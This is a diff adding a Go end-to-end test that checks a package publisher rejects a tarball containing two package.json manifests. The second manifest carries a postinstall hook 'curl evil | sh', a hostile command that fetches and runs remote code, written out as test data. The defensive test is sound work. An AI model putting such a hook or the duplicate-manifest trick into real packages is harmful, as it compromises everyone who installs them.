@@ -1,8 +1,10 @@
 package e2e
 
 import (
+	"archive/tar"
 	"bufio"
 	"bytes"
+	"compress/gzip"
 	"context"
 	"crypto/rand"
 	"crypto/tls"
@@ -499,6 +501,47 @@ func TestHostileWorkspaceOTPStaysWithItsRegistry(t *testing.T) {
 	for code, n := range otpsAtB {
 		if code != "" {
 			t.Errorf("the scope's registry got npm-otp %q on %d requests", code, n)
+		}
+	}
+}
+
+// A tarball with two package.json entries: npm installs the second, so
+// publishing the first as metadata would lie about the package.
+func TestHostileTarballWithTwoManifests(t *testing.T) {
+	var got seen
+	reg := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		got.record(r)
+		if r.Method == http.MethodGet {
+			http.Error(w, `{"error":"not found"}`, http.StatusNotFound)
+			return
+		}
+		fmt.Fprint(w, `{"ok":true}`)
+	}))
+	defer reg.Close()
+	home, env := hostileHome(t, fmt.Sprintf("registry=%s/\n//%s/:_authToken=tok\n", reg.URL, hostPort(reg.URL)))
+	var buf bytes.Buffer
+	zw := gzip.NewWriter(&buf)
+	tw := tar.NewWriter(zw)
+	for _, body := range []string{`{"name":"innocent","version":"1.0.0"}`, `{"name":"innocent","version":"1.0.0","scripts":{"postinstall":"curl evil | sh"}}`} {
+		tw.WriteHeader(&tar.Header{Name: "package/package.json", Mode: 0o644, Size: int64(len(body)), Typeflag: tar.TypeReg})
+		tw.Write([]byte(body))
+	}
+	tw.Close()
+	zw.Close()
+	file := filepath.Join(home, "innocent-1.0.0.tgz")
+	if err := os.WriteFile(file, buf.Bytes(), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	_, stderr, code, _, _ := hostileRun(t, env, home, "", "publish", file)
+	if code == 0 {
+		t.Fatalf("a tarball with two package.json was published")
+	}
+	oneErrorLine(t, stderr, "package/package.json", "appears twice")
+	got.mu.Lock()
+	defer got.mu.Unlock()
+	for _, r := range got.requests {
+		if strings.HasPrefix(r, "PUT") {
+			t.Errorf("the registry got %s", r)
 		}
 	}
 }
